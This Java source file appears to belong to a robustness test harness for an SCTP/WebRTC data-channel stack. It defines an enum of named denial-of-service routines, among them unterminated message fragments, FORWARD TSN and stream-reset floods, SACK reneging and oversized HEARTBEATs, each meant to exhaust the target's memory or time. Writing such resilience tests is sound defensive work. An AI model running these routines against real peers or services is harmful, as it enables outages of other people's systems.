package dev.parley.attack.sctp;

import java.io.IOException;
import java.time.Duration;

/** Attacks that have harmed a stack, each by its name. The wanted outcome is always the same: memory and time within bounds, and life. */
public enum SctpAttack {
    /** Pieces of one byte under the deprecated PPIDs 52 and 54 (RFC 8831 §6.6) that never become a message. */
    PARTIAL_PPID_PIECES {
        @Override
        public void run(SctpAttacker attacker) throws IOException {
            for (int stream = 0; stream < 200; stream += 2) {
                attacker.open(stream, 0, "");
                for (int piece = 1; piece < 500; piece++) {
                    attacker.data(SctpPacket.WHOLE, stream, piece, 52 + 2 * (stream & 1), ONE);
                }
            }
        }
    },
    /** Beginnings of messages without an end, on all streams. */
    BEGINNINGS {
        @Override
        public void run(SctpAttacker attacker) throws IOException {
            for (int stream = 0; stream < 65_535; stream++) {
                attacker.data(SctpPacket.BEGIN, stream, 0, 53, ONE);
            }
        }
    },
    /** Messages that grow just beyond a power of two, so that an array doubles. */
    DOUBLING {
        @Override
        public void run(SctpAttacker attacker) throws IOException {
            for (int stream = 0; stream < 2_000; stream++) {
                attacker.data(SctpPacket.BEGIN, stream, 0, 53, new byte[1_025]);
                attacker.data(0, stream, 0, attacker.interleaving ? 1 : 53, new byte[1_025]);
            }
        }
    },
    /** In-order TSNs of messages whose predecessor never comes, as large as a record. */
    MISSING_PREDECESSOR {
        @Override
        public void run(SctpAttacker attacker) throws IOException {
            attacker.dataAt(attacker.tsn + 60_000, SctpPacket.WHOLE, 9, 0, 53, ONE);
            for (int number = 1; number < 20_000; number++) {
                attacker.data(SctpPacket.WHOLE, 0, number, 53, new byte[15_000]);
            }
        }
    },
    /** Every second TSN, the last one first, and FORWARD TSN over them one by one. */
    GAPS_LAST_FIRST {
        @Override
        public void run(SctpAttacker attacker) throws IOException {
            int first = attacker.tsn;
            for (int number = 32_000; number > 0; number--) {
                attacker.dataAt(first + 2 * number, SctpPacket.WHOLE, 4, number, 53, ONE);
            }
            for (int number = 0; number < 2_000; number++) {
                forward(attacker, first + number, 0, 0, 0);
            }
            attacker.tsn = first + 64_002;
            forward(attacker, attacker.tsn - 1, 0, 0, 0);
        }
    },
    /** Channels opened without end, with and without right parity. */
    CHANNELS {
        @Override
        public void run(SctpAttacker attacker) throws IOException {
            for (int stream = 0; stream < 30_000; stream++) {
                attacker.open(stream, 0, stream % 10 == 0 ? "x".repeat(1_000) : "");
            }
        }
    },
    /** Requests to reset all streams, as many as fit, beside many channels. */
    RESET_ALL {
        @Override
        public void run(SctpAttacker attacker) throws IOException {
            for (int stream = 0; stream < 8_000; stream += 2) {
                attacker.open(stream, 0, "");
            }
            for (int number = 0; number < 20_000; number++) {
                if (number % 2 == 0) {
                    attacker.packet(20).incomingReset(attacker.sequence++);
                } else {
                    attacker.packet(20).outgoingReset(attacker.sequence++, 0, attacker.tsn - 1);
                }
            }
        }
    },
    /** Resets of unused streams beside many begun messages, and deferred ones. */
    RESET_UNUSED {
        @Override
        public void run(SctpAttacker attacker) throws IOException {
            for (int stream = 0; stream < 50_000; stream++) {
                attacker.data(SctpPacket.BEGIN, stream, 0, 53, ONE);
            }
            int[] streams = new int[6_500];
            for (int i = 0; i < streams.length; i++) {
                streams[i] = 58_000 + i;
            }
            for (int number = 0; number < 20; number++) {
                attacker.packet(13_100)
                        .outgoingReset(attacker.sequence++, 0, attacker.tsn + (number % 2) * 1_000, streams);
            }
        }
    },
    /** FORWARD TSN that names all streams. */
    FORWARD_ALL_STREAMS {
        @Override
        public void run(SctpAttacker attacker) throws IOException {
            for (int first = 0; first < 64_000; first += 1_000) {
                forward(attacker, attacker.tsn++, first, 1_000, 5);
            }
        }
    },
    /** SACKs that acknowledge all but the first chunk, and take it back. */
    RENEGING {
        @Override
        public void run(SctpAttacker attacker) throws IOException {
            for (int stream = 0; stream < 500; stream += 2) {
                attacker.open(stream, 0, "");
            }
            attacker.flush();
            for (int number = 0; number < 5_000; number++) {
                int under = Math.min(attacker.latest - attacker.acknowledged, 65_535);
                if (under > 1) {
                    attacker.packet(20).sack(attacker.acknowledged, 1 << 30, 2, under);
                }
                attacker.packet(20).sack(attacker.acknowledged, number % 3 == 0 ? 0 : 1 << 30);
                if (number % 100 == 0) {
                    attacker.elapse(Duration.ofMillis(500));
                }
            }
        }
    },
    /** Tiny and empty messages without end on an open channel. */
    TINY_MESSAGES {
        @Override
        public void run(SctpAttacker attacker) throws IOException {
            attacker.open(0, 0, "");
            for (int number = 1; number < 200_000; number++) {
                attacker.data(
                        SctpPacket.WHOLE, 0, attacker.interleaving ? number : number & 0xffff, 53 + number % 5, ONE);
            }
        }
    },
    /** HEARTBEATs of the size of a record, each of which wants an answer. */
    HEARTBEATS {
        @Override
        public void run(SctpAttacker attacker) throws IOException {
            for (int number = 0; number < 2_000; number++) {
                attacker.packet(number % 15_000).heartbeat(number % 15_000);
            }
        }
    };

    private static final byte[] ONE = new byte[1];

    /** Does it, on a connected attacker. */
    public abstract void run(SctpAttacker attacker) throws IOException;

    private static void forward(SctpAttacker attacker, int tsn, int first, int streams, int number) throws IOException {
        SctpPacket packet = attacker.packet(8 + 8 * streams);
        if (attacker.interleaving) {
            packet.interleavedForwardTsn(tsn, first, streams, false, number);
        } else {
            packet.forwardTsn(tsn, first, streams, number);
        }
    }
}
